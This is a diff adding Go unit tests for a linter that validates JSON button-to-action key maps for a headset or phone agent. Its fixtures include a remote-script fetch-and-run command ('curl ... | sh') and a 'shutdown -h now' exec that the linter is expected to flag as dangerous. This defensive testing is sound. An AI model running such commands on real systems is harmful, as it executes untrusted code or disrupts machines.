@@ -0,0 +1,182 @@
+package actions
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestLintKeyMap(t *testing.T) {
+	data := []byte(`{
+  "Mute": {
+    "action": "notify",
+    "message": "Mute"
+  },
+  "Turbo": {
+    "action": "none"
+  },
+  "Redial": {
+    "acton": "api_call",
+    "url": "http://localhost/redial"
+  },
+  "Flash": {
+    "action": "exec",
+    "cmd": "curl -s http://x/setup.sh | sh"
+  },
+  "Mute": {
+    "action": "api_call",
+    "url": "localhost/mute"
+  },
+  "OffHook": {
+    "action": "exec"
+  }
+}`)
+
+	findings := LintKeyMap(data)
+	want := []struct {
+		line     int
+		key      string
+		severity Severity
+		message  string
+	}{
+		{2, "Mute", SeverityWarning, "overridden by duplicate key on line 17"},
+		{6, "Turbo", SeverityError, `unknown button "Turbo"`},
+		{6, "Turbo", SeverityWarning, "action none does nothing"},
+		{9, "Redial", SeverityError, "missing action"},
+		{10, "Redial", SeverityError, `unknown field "acton" (did you mean "action"?)`},
+		{13, "Flash", SeverityWarning, "dangerous exec command"},
+		{17, "Mute", SeverityError, `invalid url "localhost/mute"`},
+		{21, "OffHook", SeverityError, "exec requires cmd"},
+	}
+	if len(findings) != len(want) {
+		t.Fatalf("LintKeyMap = %d achados, want %d: %v", len(findings), len(want), findings)
+	}
+	for i, w := range want {
+		f := findings[i]
+		if f.Line != w.line || f.Key != w.key || f.Severity != w.severity || !strings.Contains(f.Message, w.message) {
+			t.Errorf("achado %d = %v, want %d: %s: %s: ...%s...", i, f, w.line, w.severity, w.key, w.message)
+		}
+	}
+	if !HasErrors(findings) {
+		t.Error("HasErrors = false, want true")
+	}
+}
+
+func TestLintKeyMapUnreachableWear(t *testing.T) {
+	data := []byte(`{
+  "Wear:off": {"action": "socket_emit", "event": "ausente"},
+  "Wear:off:idle": {"action": "socket_emit", "event": "ausente"},
+  "Wear:off:ringing": {"action": "socket_emit", "event": "ausente"},
+  "Wear:off:in_call": {"action": "socket_emit", "event": "ausente"},
+  "Wear:off:held": {"action": "socket_emit", "event": "ausente"},
+  "Wear:off:muted": {"action": "socket_emit", "event": "ausente"},
+  "Wear:off:ended": {"action": "socket_emit", "event": "ausente"}
+}`)
+
+	findings := LintKeyMap(data)
+	if len(findings) != 1 || findings[0].Line != 2 || findings[0].Key != "Wear:off" || !strings.Contains(findings[0].Message, "unreachable") {
+		t.Errorf("LintKeyMap = %v, want Wear:off inalcançável na linha 2", findings)
+	}
+	if HasErrors(findings) {
+		t.Error("HasErrors = true, want false (apenas aviso)")
+	}
+}
+
+func TestLintKeyMapSequenceSteps(t *testing.T) {
+	data := []byte(`{
+  "OffHook": {
+    "action": "sequence",
+    "steps": [
+      {"action": "socket_emit", "event": "click"},
+      {"action": "none", "delay_ms": 500},
+      {
+        "action": "exec",
+        "cmd": "shutdown -h now",
+        "timeout": 1000
+      }
+    ]
+  }
+}`)
+
+	findings := LintKeyMap(data)
+	if len(findings) != 2 {
+		t.Fatalf("LintKeyMap = %v, want 2 achados nos passos", findings)
+	}
+	if f := findings[0]; f.Line != 7 || f.Severity != SeverityWarning || !strings.HasPrefix(f.Message, "step 3: dangerous exec") {
+		t.Errorf("achado 0 = %v, want exec perigoso do passo 3 na linha 7", f)
+	}
+	if f := findings[1]; f.Line != 10 || f.Severity != SeverityError || !strings.Contains(f.Message, `step 3: unknown field "timeout" (did you mean "timeout_ms"?)`) {
+		t.Errorf("achado 1 = %v, want campo desconhecido do passo 3 na linha 10", f)
+	}
+}
+
+func TestLintKeyMapBusylight(t *testing.T) {
+	data := []byte(`{
+  "Flash:long": {"action": "busylight", "light": "blink"},
+  "Flash:double": {"action": "busylight", "lihgt": "on"},
+  "OffHook": {"action": "busylight", "light": "on"}
+}`)
+
+	findings := LintKeyMap(data)
+	want := []struct {
+		line    int
+		message string
+	}{
+		{2, `unknown light "blink" (use "on" or "off")`},
+		{3, `unknown field "lihgt" (did you mean "light"?)`},
+		{3, "busylight requires light"},
+	}
+	if len(findings) != len(want) {
+		t.Fatalf("LintKeyMap = %v, want %d achados", findings, len(want))
+	}
+	for i, w := range want {
+		if f := findings[i]; f.Line != w.line || f.Severity != SeverityError || !strings.Contains(f.Message, w.message) {
+			t.Errorf("achado %d = %v, want erro na linha %d: ...%s...", i, f, w.line, w.message)
+		}
+	}
+}
+
+func TestLintKeyMapSyntaxError(t *testing.T) {
+	tests := []struct {
+		data string
+		line int
+	}{
+		{"{\n  \"Mute\": {\"action\": \"none\"},\n  \"Flash\": \n}", 4},
+		{"[]", 1},
+		{"", 1},
+		{"{\"Mute\": \"notify\"}", 1},
+	}
+	for _, tt := range tests {
+		findings := LintKeyMap([]byte(tt.data))
+		if !HasErrors(findings) || findings[len(findings)-1].Line != tt.line {
+			t.Errorf("LintKeyMap(%q) = %v, want erro na linha %d", tt.data, findings, tt.line)
+		}
+	}
+}
+
+func TestLintRepoKeyMap(t *testing.T) {
+	data, err := os.ReadFile(filepath.Join("..", "..", "config", "keymap.json"))
+	if err != nil {
+		t.Fatalf("Erro ao ler config/keymap.json: %v", err)
+	}
+	if findings := LintKeyMap(data); len(findings) > 0 {
+		t.Errorf("config/keymap.json com achados do lint: %v", findings)
+	}
+}
+
+// O schema publicado em config/ deve acompanhar Action e os botões do
+// driver; para regenerar: go run ./cmd/agent keymap schema > config/keymap.schema.json
+func TestKeyMapSchemaUpToDate(t *testing.T) {
+	schema, err := Schema()
+	if err != nil {
+		t.Fatalf("Schema: %v", err)
+	}
+	published, err := os.ReadFile(filepath.Join("..", "..", "config", SchemaID))
+	if err != nil {
+		t.Fatalf("Erro ao ler config/%s: %v", SchemaID, err)
+	}
+	if string(schema) != string(published) {
+		t.Errorf("config/%s desatualizado em relação a actions.Schema()", SchemaID)
+	}
+}